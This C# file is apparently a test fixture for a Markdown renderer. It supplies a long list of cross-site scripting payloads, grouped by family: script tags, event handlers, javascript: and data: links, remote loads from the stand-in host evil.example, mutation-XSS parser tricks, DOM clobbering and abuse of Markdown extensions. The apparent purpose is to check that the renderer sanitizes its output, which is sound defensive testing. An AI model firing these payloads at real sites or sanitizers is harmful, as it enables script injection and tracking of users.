namespace KnowledgeCommons.Tests.Markdown;

/// <summary>Ways to run script, load from elsewhere or take over the page that have worked somewhere, by family.</summary>
public sealed class XssPayloads : TheoryData<string>
{
    private static readonly string[] Payloads =
    [
        // script
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
        "<script>alert(1)", "<<script>alert(1);//<</script>", "<script\n>alert(1)</script\n>", "<script><!--<script></script>--></script><b>x</b>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",

        // events
        "<img src=x onerror=alert(1)>", "<img src=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>",
        "<div onclick=alert(1) onmouseover=\"alert(2)\">x</div>", "<details open ontoggle=alert(1)>x</details>", "<b onfocus=alert(1) tabindex=1 autofocus>x</b>",
        "<a href=\"#x\" onclick=\"alert(1)\">x</a>", "<p/onclick=alert(1)>x</p>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src='x' =\"onerror=alert(1)\">",
        "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<input autofocus onfocus=alert(1)>", "<input type=checkbox onclick=alert(1)>", "<select onfocus=alert(1) autofocus></select>",
        "<td onclick=alert(1)>x</td>", "<object data=x onerror=alert(1)></object>", "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",

        // addresses
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))",
        "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"javascript://%0aalert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>", "<a href=\"blob:https://x/y\">x</a>", "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "![x](javascript:alert(1))", "<a href=\"\\\\evil.example\\x\">x</a>", "<a href=\"/\\evil.example\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>", "<a href=x ping=https://evil.example>x</a>", "<a href=https://e.example target=_blank rel=opener>x</a>",

        // foreign resources
        "![x](https://evil.example/track.png)", "<img src=\"//evil.example/x.png\">", "<img srcset=\"https://evil.example/x.png 1x\">", "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
        "<picture><source srcset=\"https://evil.example/x.png\"><img src=x></picture>", "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>",
        "<div style=\"background:url(https://evil.example/x)\">x</div>", "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</td></tr></table>",
        "<iframe src=https://evil.example></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<embed src=https://evil.example/x.swf>", "<object data=https://evil.example></object>",
        "<video poster=https://evil.example/x src=https://evil.example/y></video>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=https://evil.example><input name=p><button formaction=javascript:alert(1)>x</button></form>", "<blockquote cite=https://evil.example>x</blockquote>",
        "<input type=image src=https://evil.example/x>", "<isindex action=https://evil.example>", "<bgsound src=https://evil.example/x>", "<frameset><frame src=https://evil.example></frameset>",

        // mutation
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><desc><title><a title=\"</title><img src=x onerror=alert(1)>\"></desc></svg>",
        "<template><img src=x onerror=alert(1)></template>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>", "<plaintext><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<select><style></select><img src=x onerror=alert(1)></style></select>", "<table><caption><svg><p title=\"</caption><img src=x onerror=alert(1)>\"></svg></caption></table>",
        "<p title=\"`<img src=x onerror=alert(1)>`\">x</p>", "`<img src=x onerror=alert(1)>", "<a title=\"&lt;img src=x onerror=alert(1)&gt;\">x</a>", "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",

        // the frame
        "</div></main></body></html><h1>mine</h1>", "</main><footer id=kc-foot>mine</footer>", "<main id=kc-main>mine</main>", "<a id=kc-body name=kc-body>x</a>", "<img name=cookie><form name=body>",
        "<a id=body></a><a id=body name=toString>x</a>", "<b id=\"KC-main\">x</b>", "## kc-main", "<div class=\"kc-header fixed\" id=x>x</div>", "<p slot=x is=y contenteditable itemid=z>x</p>",
        "<div data-for=\"windows\" data-action=\"delete\" role=dialog aria-hidden=true>x</div>", "<table><tr><td></table></td></tr></div></div>", "<html><head><title>mine</title></head><body id=kc-body class=x>",
        "<dialog open>x</dialog>", "<h1 id=kc-main>x</h1>", "<frameset>", "<b><p></b></div>", "<a><table><a></table></a>",

        // Markdown's own makings
        "![x\" onerror=\"alert(1)](a.png)", "![x](a.png \"x' onerror='alert(1)\")", "[x](https://e.example/\"onclick=\"alert(1))", "[x](a.md \"\\\" onclick=\\\"alert(1)\")", "```\"><script>alert(1)</script>\nx\n```",
        ":::image source=\"x\" alt-text=\"<img src=x onerror=alert(1)>\":::", ":::no-loc text=\"<script>alert(1)</script>\":::", ":::for <script>alert(1)</script>\nx\n:::", "[!INCLUDE [<img src=x onerror=alert(1)>](javascript:alert(1))]",
        "> [!VIDEO javascript:alert(1)]", "> [!NOTE\" onclick=\"alert(1)]\n> x", "![a](a.png){width=1 onerror=alert(1)}", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "[^<script>]: x\n\n[^<script>]",
        "- [ ] <img src=x onerror=alert(1)>", "<https://e.example/\"onmouseover=alert(1)>", "term <script>\n:   <img src=x onerror=alert(1)>",
    ];

    public XssPayloads()
    {
        foreach (var payload in Payloads) Add(payload);
    }
}
